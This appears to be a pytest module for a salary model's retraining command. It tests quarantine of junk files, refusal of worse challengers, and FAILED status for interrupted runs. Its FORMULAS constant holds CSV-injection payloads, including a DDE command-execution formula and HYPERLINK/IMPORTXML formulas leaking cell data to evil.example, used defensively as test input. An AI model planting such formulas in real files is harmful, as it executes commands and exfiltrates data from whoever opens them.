"""The retrain says no: junk files are quarantined whole, a challenger worse on another
source's latest period is refused, a failing run is FAILED, a lost store is named.

A small project for the module (``test_retraining.make_project``: survey rows before
2024 and postings; champion v1 trained on them). The refusal of a challenger that
hurts the other source runs on the whole shipped data: the issue's case (1,597 later
survey rows that made later postings worse) does not show in small samples.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from helpers.retrain_project import BIN, make_project, project_env, trained_champion
from typer.testing import CliRunner

import salarymodel.retraining.job as retraining
from salarymodel.cli.app import app
from salarymodel.config.settings import load_settings
from salarymodel.registry.store import RegistryError, connect

pytestmark = pytest.mark.slow  # the module trains a champion first
runner = CliRunner()
ROOT = Path(__file__).resolve().parents[2]
# The junk: spreadsheet formulas as job titles (OWASP CSV injection).
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "=SUM(A1:A9)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",B2),"//a")',
)


def _invoke(*args: str, code: int) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == code, result.output
    return " ".join(result.output.split())


def _versions() -> list[dict]:
    return json.loads(runner.invoke(app, ["versions", "--json"]).stdout)


def _last_retrain_run():
    settings = load_settings()
    client = connect(settings)
    experiment = client.get_experiment_by_name(settings.tracking.experiment)
    (run,) = client.search_runs(
        [experiment.experiment_id],
        filter_string="tags.kind = 'retrain'",
        order_by=["attributes.start_time DESC"],
        max_results=1,
    )
    return run


@pytest.fixture(scope="module")
def base(tmp_path_factory, aijobs_raw, postings_raw) -> Iterator[Path]:
    root = tmp_path_factory.mktemp("refusals")
    make_project(root, aijobs_raw, postings_raw)
    with trained_champion(root, tmp_path_factory):
        yield root


def test_a_file_of_formula_titles_is_quarantined_whole_and_nothing_promoted(base: Path) -> None:
    before = _versions()
    rows = pd.read_csv(base / "data" / "new.csv", dtype=str, keep_default_na=False)
    junk = rows.sample(200, random_state=7).reset_index(drop=True)
    for i in range(193):  # the file: 193 of 200 titles are formulas
        junk.loc[i, "job_title"] = FORMULAS[i % len(FORMULAS)] + f"&{i}"
    path = base / "formulas.csv"
    junk.to_csv(path, index=False)
    out = _invoke("retrain", "--data", str(path), code=1)
    assert "kept champion v1" in out
    # 193 of 200 = 96.5%: seen as unknown titles here (or, where formula cells are
    # quarantined row by row, as the quarantined share); either refuses the file whole.
    refused = re.findall(r"(unseen titles|quarantined share): [^;]*?96\.5%", out)
    assert refused, out
    assert "the whole file was quarantined" in out
    assert "salary PSI" in out  # the drift figures are printed ...
    (copy,) = (base / "models" / "retraining" / "quarantine").glob("*-formulas.csv")
    assert copy.read_bytes() == path.read_bytes()  # the whole file, as delivered
    # ... and written beside it with the reasons.
    reason = copy.with_name(copy.name + ".reason.txt").read_text()
    assert f"failed: {refused[0]}: " in reason and "96.5%" in reason
    figures = json.loads(reason[reason.index("{") : reason.rindex("}") + 1])
    assert {"unseen_title_share", "top_psi", "salary_psi"} <= set(figures)
    # Nothing was trained on it, registered, promoted or kept.
    assert _versions() == before
    assert not list((base / "models").glob("accepted/*/*.csv.gz"))
    assert "held-out new rows" not in out


def test_retrain_json_is_the_json_alone_when_the_champion_is_kept(base: Path) -> None:
    # The gate's table was printed on stdout before the JSON, which no parser then read.
    rows = pd.read_csv(base / "data" / "new.csv", dtype=str, keep_default_na=False)
    junk = rows.sample(60, random_state=8)
    junk["salary_in_usd"] = "nan"  # every row quarantined: the champion is kept
    path = base / "no_pay.csv"
    junk.to_csv(path, index=False)
    result = runner.invoke(app, ["retrain", "--data", str(path), "--json"])
    assert result.exit_code == 1, result.output
    summary = json.loads(result.stdout)
    assert summary["promoted"] is False and summary["checks"]
    assert "Retrain gate" in result.stderr and "kept champion v1" in result.stderr


def test_a_store_lost_mid_retrain_is_named_and_not_recreated(base: Path, monkeypatch) -> None:
    before = _versions()
    store, away = base / "mlflow.db", base / "mlflow.db.away"
    measure = retraining.measure_drift

    def moved_away(*args, **kwargs):
        os.rename(store, away)  # what an operator's `mv mlflow.db ...` does mid-run
        return measure(*args, **kwargs)

    monkeypatch.setattr(retraining, "measure_drift", moved_away)
    try:
        out = _invoke("retrain", "--data", str(base / "data" / "new.csv"), code=2)
        assert not store.exists()  # not silently recreated
        assert out.count("error:") == 1
        assert "was moved, deleted or replaced while this command ran" in out
        assert "autoflush" not in out and "no such table" not in out
    finally:
        os.replace(away, store)
    assert _versions() == before


def test_a_failing_retrain_run_is_failed_in_mlflow(base: Path, monkeypatch) -> None:
    before = _versions()

    def disk_full(*args, **kwargs):
        raise OSError(28, "No space left on device")

    # After the gate's comparisons, inside the run: the run must not stay RUNNING.
    monkeypatch.setattr(retraining, "refit_challenger", disk_full)
    result = runner.invoke(app, ["retrain", "--data", str(base / "data" / "new.csv")])
    assert result.exit_code != 0 and isinstance(result.exception, OSError)
    run = _last_retrain_run()
    assert run.info.status == "FAILED"
    # The gate compared on each source's latest period before the failure.
    reason = run.data.tags["gate.reason"]
    assert "recent period aijobs 2023" in reason and "recent period postings 2023-" in reason
    assert {"recent.aijobs.difference", "recent.postings.difference"} <= set(run.data.metrics)
    assert _versions() == before


def test_a_retrain_failing_to_publish_is_failed_in_mlflow(base: Path, monkeypatch) -> None:
    before = _versions()

    class Logged:  # what refit_challenger returns; nothing is refit
        model_uri = "runs:/none/model"

    def refused(*args, **kwargs):
        raise RegistryError("cannot register: the store is read-only")

    monkeypatch.setattr(retraining, "refit_challenger", lambda *a, **k: Logged())
    import salarymodel.promotion.publishing as publishing

    monkeypatch.setattr(publishing, "register", refused)  # train and retrain publish here
    out = _invoke("retrain", "--data", str(base / "data" / "new.csv"), code=2)
    assert "error: cannot register: the store is read-only" in out
    run = _last_retrain_run()
    assert run.info.status == "FAILED"
    assert run.data.tags["error"] == "RegistryError: cannot register: the store is read-only"
    assert _versions() == before
    assert not list((base / "models").glob("accepted/*/*.csv.gz"))


def test_a_terminated_retrain_run_is_failed_in_mlflow(base: Path) -> None:
    """SIGTERM (`kill`, a job's time limit) mid-training: exit 143, the run FAILED."""
    before = _versions()
    process = subprocess.Popen(
        [str(BIN / "salarymodel"), "retrain", "--data", str(base / "data" / "new.csv")],
        cwd=base, env=project_env(base), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
        text=True,
    )  # fmt: skip
    seen = []
    try:
        for line in process.stderr:  # progress lines (stderr is not a terminal)
            seen.append(line)
            if "fitting a challenger" in line:
                process.send_signal(signal.SIGTERM)
                break
        process.communicate(timeout=120)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == 128 + signal.SIGTERM, "".join(seen)[-2000:]
    assert _last_retrain_run().info.status == "FAILED"
    assert _versions() == before


# ----- a challenger worse on another source ------------------------------------------------
def test_later_survey_rows_are_judged_on_each_sources_latest_period(
    settings, sources, monkeypatch
) -> None:
    """The issue's case on the shipped data: 1,597 survey records of 2024 added to
    everything before them, judged on the survey's and the postings' latest period.

    Before per-source country levels (issue 22) these rows made postings' latest
    quarter clearly worse (+$170.75, 95% interval [+28.73, +311.45] on 3,682 rows)
    and the check refused them; with the levels the sources no longer pull each
    other's countries, and the same rows measured +$79.15 [-73.52, +234.48] on
    postings. The test holds what must stay true whichever way the numbers fall:
    both sources are compared on the same rows, each comparison is printed with its
    interval, and the verdict follows the interval (refused only when clearly worse).
    """
    import dataclasses

    from salarymodel.data.dataset import load_training_data
    from salarymodel.promotion.decisions import RetrainDecision
    from salarymodel.retraining.checks import period_checks
    from salarymodel.retraining.job import compare_recent_periods

    monkeypatch.setenv("SALARYMODEL_ROOT", str(ROOT))  # the shipped data, not the module's
    monkeypatch.chdir(ROOT)

    records = load_training_data(settings, sources, accepted=False).records
    records = records.reset_index(drop=True)
    later = np.flatnonzero((records["source"] == "aijobs") & (records["year"] == 2024))
    new = np.random.default_rng(0).choice(later, 1597, replace=False)
    keep = ~np.isin(np.arange(len(records)), np.setdiff1d(later, new))
    is_new = np.isin(np.arange(len(records)), new)[keep]
    periods = compare_recent_periods(records[keep].reset_index(drop=True), is_new, settings)
    decision = RetrainDecision()
    passed = period_checks(periods, ["aijobs", "postings"], settings, decision)
    print("\n".join(f"{c.name}: {c.detail}" for c in decision.checks))  # for the record (-s)
    survey, postings = decision.checks
    assert survey.name == "recent period aijobs 2023"
    assert postings.name == "recent period postings 2023-10..2023-12"
    assert "with vs without the 1,597 new ones" in postings.detail
    assert periods[1].interval.rows == 3680 and periods[1].new_rows == 1597
    for period, check in zip(periods, decision.checks, strict=True):
        interval = period.interval
        assert interval.low <= interval.difference <= interval.high
        assert f"{interval.difference:+,.2f}" in check.detail
        assert check.passed == (interval.low <= 0)  # tolerance 0: worse means the whole interval
    assert passed == all(c.passed for c in decision.checks)
    # The same real comparison, with the postings interval moved wholly above zero (as it
    # measured before the country levels), is refused and names the period.
    worse = dataclasses.replace(
        periods[1].interval, difference=170.75, low=28.73, high=311.45, rows=3682
    )
    refused = RetrainDecision()
    hurt = [periods[0], dataclasses.replace(periods[1], interval=worse)]
    assert not period_checks(hurt, ["aijobs", "postings"], settings, refused)
    assert not refused.promote and "recent period postings" in refused.reason
    assert "+170.75" in refused.checks[1].detail and not refused.checks[1].passed
